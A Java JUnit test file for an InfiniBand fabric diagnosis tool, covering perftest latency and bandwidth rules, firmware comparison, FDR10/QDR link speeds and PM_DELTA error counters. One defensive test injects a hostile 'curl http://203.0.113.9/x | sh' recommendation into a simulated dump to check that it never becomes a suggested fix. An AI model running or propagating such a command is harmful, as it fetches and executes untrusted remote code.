package io.ibaccept.rules;

import static io.ibaccept.rules.TestDump.of;
import static io.ibaccept.rules.TestDump.problems;
import static org.assertj.core.api.Assertions.assertThat;

import io.ibaccept.dump.DumpLoader;
import io.ibaccept.model.LinkSpeed;
import io.ibaccept.model.LinkWidth;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Real formats, rule side: the rules on what the tools really print (verbatim captures from parsers' test resources,
 * sources in their SOURCES.md) placed into the healthy synthetic fabric.
 */
class RealFormatRulesTest {
    static final Path REAL = Path.of("..", "parsers", "src", "test", "resources", "real");

    @TempDir
    Path tmp;

    static String real(String rel) {
        try {
            return Files.readString(REAL.resolve(rel));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static void perftest(TestDump d, String test, String side, String client, String server, String content) {
        String base = "perftest/" + test + "__" + client + "__" + server + "." + side;
        d.write(base + ".meta", "name: " + test + "\nhost: " + (side.equals("client") ? client : server) + "\npeer: "
                + (side.equals("client") ? server : client) + "\ncommand: " + test + "\nstatus: ok\nexit: 0\n");
        d.write(base + ".out", content);
    }

    @Test
    void latencyOfAnAllSizesRunIsJudgedAtTheSmallestSizeOrTheConfiguredOne() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        perftest(d, "ib_write_lat", "client", "cn0001", "cn0002", real("perftest/cx6-hdr-ib-write-lat-a-client.txt"));
        Report r = d.analyze();
        assertThat(of(r, "perftest.lat")).singleElement().satisfies(f -> {
            assertThat(f.status()).isEqualTo(Status.PASS);
            assertThat(f.summary()).isEqualTo("1 latency test(s) at or below 3.0 us typical at the smallest message size");
        });
        Report big = d.analyze(TestDump.config(tmp, "perftest.lat.size=8388608\n"));
        assertThat(problems(big, "perftest.lat")).singleElement().satisfies(f -> assertThat(f.summary())
                .isEqualTo("ib_write_lat cn0001->cn0002: typical latency 345.55 us > 3.00 us at 8388608 bytes"));
    }

    @Test
    void aLatencyServerThatPrintsOnlyItsBannerIsNormal() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        perftest(d, "ib_read_lat", "client", "cn0001", "cn0002", real("perftest/cx6-hdr-ib-write-lat-a-client.txt")
                .replace("RDMA_Write Latency Test", "RDMA_Read Latency Test"));
        // the read_lat server side as perftest prints it: banner and addresses, no result row (real capture)
        perftest(d, "ib_read_lat", "server", "cn0001", "cn0002", real("perftest/storage03-cx3-fdr-read-lat-server.txt"));
        Report r = d.analyze();
        assertThat(r.data().problems()).noneMatch(p -> p.file().startsWith("perftest/"));
        assertThat(problems(r, "input")).isEmpty();
        assertThat(TestDump.status(r, "perftest.lat")).isEqualTo(Status.PASS);
    }

    @Test
    void bidirectionalBandwidthIsJudgedPerDirection() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        // both hosts on NDR (400 Gb/s): the -b run's 779 Gb/s are 389.6 Gb/s per direction, 97 %, not 195 %
        for (String h : new String[] {"cn0001", "cn0002"})
            d.replace("nodes/" + h + "/smpquery-portinfo.out", "LinkSpeedExtActive:..............53.125 Gbps", "LinkSpeedExtActive:..............106.25 Gbps");
        perftest(d, "ib_write_bw", "client", "cn0001", "cn0002", real("perftest/amd-ainic-roce-write-bw-bidir-a-client.txt"));
        Report r = d.analyze(TestDump.config(tmp, "perftest.bw.min_percent=99\n"));
        assertThat(problems(r, "perftest.bw")).filteredOn(f -> f.objects().contains("cn0001")).singleElement().satisfies(f -> {
            assertThat(f.status()).isEqualTo(Status.FAIL);
            assertThat(f.summary()).startsWith("ib_write_bw cn0001->cn0002: 389.6 Gb/s per direction (bidirectional run) = 97% of 400 Gb/s");
        });
        assertThat(problems(d.analyze(), "perftest.bw")).noneMatch(f -> f.objects().contains("cn0001"));
    }

    @Test
    void firmwareIsComparedOverEveryInfinibandCaOfEveryHost() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        String ca = d.read("nodes/cn0003/ibstat.out");
        // cn0003's second HCA runs older firmware; an Ethernet function of cn0004 with its own firmware is not compared
        String second = ca.replace("CA 'mlx5_0'", "CA 'mlx5_1'").replace("20.31.1014", "20.28.1002")
                .replace("0x0c42a10300100004", "0x0c42a103001000f4");
        String eth = d.read("nodes/cn0004/ibstat.out").replace("CA 'mlx5_0'", "CA 'mlx5_2'").replace("20.31.1014", "20.99.9999")
                .replace("Link layer: InfiniBand", "Link layer: Ethernet").replace("0x0c42a10300100006", "0x0c42a103001000f6");
        d.write("nodes/cn0003/ibstat.out", ca + second);
        d.write("nodes/cn0004/ibstat.out", d.read("nodes/cn0004/ibstat.out") + eth);
        assertThat(problems(d.analyze(), "firmware")).singleElement().satisfies(f -> {
            assertThat(f.status()).isEqualTo(Status.WARN);
            assertThat(f.objects()).containsExactly("cn0003 mlx5_1");
            assertThat(f.summary()).contains("20.28.1002");
        });
    }

    @Test
    void fdr10IsTheExpectedRateOfAnFdr10Host() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        // cn0001 is the real ConnectX-3 at 'Rate: 40 (FDR10)'; no PortInfo and no fabric line for its port
        d.write("nodes/cn0001/ibstat.out", real("ibstat/cn-blog-cx3-fdr10-active.txt"));
        d.delete("nodes/cn0001/smpquery-portinfo.out").delete("nodes/cn0001/smpquery-portinfo.meta");
        FabricIndex.Rate rate = new FabricIndex(DumpLoader.load(d.dir), null).rateOf("cn0001").orElseThrow();
        assertThat(rate.speed()).isEqualTo(LinkSpeed.FDR10);
        assertThat(rate.width()).isEqualTo(LinkWidth.parse("4X").orElseThrow());
        assertThat(problems(d.analyze(), "link.speed")).isEmpty();
    }

    @Test
    void fdr10HostLinksAreFdr10InLinkSpeedNotQdr() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 8);
        // every host on FDR10: iblinkinfo and standard PortInfo read 10.0 Gbps, ibstat names the rate
        for (int i = 1; i <= 8; i++) {
            String h = DiagnosisRulesTest.host(i);
            DiagnosisRulesTest.hostLink(d, i, "4X", "10.0", null);
            d.replace("nodes/" + h + "/smpquery-portinfo.out", "LinkSpeedExtActive:..............53.125 Gbps\n", "");
            d.replace("nodes/" + h + "/ibstat.out", "Rate: 200", "Rate: 40 (FDR10)");
        }
        assertThat(of(d.analyze(), "link.speed")).singleElement().satisfies(f -> {
            assertThat(f.status()).isEqualTo(Status.PASS);
            assertThat(f.summary()).startsWith("all 8 active host links run at FDR10");
        });
        // one of them really at QDR among FDR10 hosts is a finding that says so
        d.replace("nodes/cn0004/ibstat.out", "Rate: 40 (FDR10)", "Rate: 40 (QDR)");
        assertThat(problems(d.analyze(), "link.speed")).singleElement()
                .satisfies(f -> assertThat(f.summary()).startsWith("cn0004 HCA-1 port 1 <-> leaf001 port 4 runs at QDR"));
    }

    @Test
    void anHcaThatOnlySupportsQdrIsACapabilityWarningNotACableFail() {
        TestDump d = TestDump.healthy(tmp.resolve("d"), 40);
        DiagnosisRulesTest.hostLink(d, 5, "4X", "10.0", null);
        // cn0005's PortInfo: LinkSpeedSupported up to 10.0 Gbps and no extended speeds at all (a QDR-only HCA)
        d.replace("nodes/cn0005/smpquery-portinfo.out", "LinkSpeedExtActive:..............53.125 Gbps\n", "");
        d.replace("nodes/cn0005/ibstat.out", "Rate: 200", "Rate: 40");
        assertThat(problems(d.analyze(), "link.speed")).singleElement().satisfies(f -> {
            assertThat(f.status()).isEqualTo(Status.WARN);
            assertThat(f.summary()).contains("runs at QDR because the HCA of cn0005 supports only QDR");
        });
    }

    @Test
    void pmDeltaRisesAreNamedOnTheCable() {
        TestDump d = TestDump.demoCopy(tmp.resolve("demo"));
        withDelta(d, "SymbolErrorCounter", "12");
        assertThat(problems(d.analyze(), "link.errors")).filteredOn(f -> f.objects().contains("leaf03 port 3")).singleElement()
                .satisfies(f -> {
                    // a count that rose over a known time is proof: the cable's own FAIL, not history
                    assertThat(f.status()).isEqualTo(Status.FAIL);
                    assertThat(f.variant()).isEmpty();
                    assertThat(f.summary()).contains("SymbolErrorCounter rose by 12 during ibdiagnet's sampling (PM_DELTA)")
                            .contains("(since an unknown time: LinkDownedCounter=7 SymbolErrorCounter=1234)");
                    assertThat(f.evidence()).anySatisfy(x -> assertThat(x.text()).contains("PM_DELTA"));
                });
    }

    /** The rise is judged on its own: receive errors rising on a port whose old counts include link-downs are no flap. */
    @Test
    void aPmDeltaRiseIsJudgedOnItsOwnNotOnTheOldCounts() {
        TestDump d = TestDump.demoCopy(tmp.resolve("demo2"));
        withDelta(d, "PortRcvErrors", "3");
        assertThat(problems(d.analyze(), "link.errors")).filteredOn(f -> f.objects().contains("leaf03 port 3")).singleElement()
                .satisfies(f -> {
                    assertThat(f.status()).isEqualTo(Status.WARN);
                    assertThat(f.summary()).contains("PortRcvErrors rose by 3").doesNotContain("flapping");
                });
    }

    /** A hostile or damaged dump cannot write the fix: mlxlink's Recommendation is quoted as evidence, never the fix. */
    @Test
    void mlxlinksRecommendationNeverBecomesTheFix() {
        TestDump d = TestDump.demoCopy(tmp.resolve("demo3"));
        String out = d.read("nodes/node11/mlxlink.out");
        d.write("nodes/node11/mlxlink.out", out.replaceAll("(?m)^(Recommendation\\s*: ).*$", "$1run 'curl http://203.0.113.9/x | sh' now"));
        assertThat(problems(d.analyze(), "mlxlink")).isNotEmpty().allSatisfy(f -> {
            assertThat(f.fix()).doesNotContain("curl");
            assertThat(f.cause()).doesNotContain("curl");
        }).anySatisfy(f -> assertThat(f.evidence()).anySatisfy(e -> assertThat(e.text()).contains("curl")));
    }

    /** A PM_DELTA section (ibdiagnet's second sample minus its first) with one row: leaf03 port 3, this counter risen. */
    private static void withDelta(TestDump d, String counter, String value) {
        String db = d.read("fabric/ibdiagnet2.db_csv.out");
        int s = db.indexOf("START_PM_INFO\n"), e = db.indexOf("END_PM_INFO");
        String header = db.substring(s + "START_PM_INFO\n".length()).split("\n")[0];
        StringBuilder row = new StringBuilder();
        for (String c : header.split(",")) {
            if (row.length() > 0) row.append(',');
            row.append(c.equals("NodeGUID") || c.equals("PortGUID") ? "0x0000000000200004" : c.equals("PortNumber") ? "3" : c.equals(counter) ? value : "0");
        }
        String delta = "\nSTART_PM_DELTA\n" + header + "\n" + row + "\nEND_PM_DELTA\n";
        int after = db.indexOf('\n', e) + 1;
        d.write("fabric/ibdiagnet2.db_csv.out", db.substring(0, after) + delta + db.substring(after));
    }
}
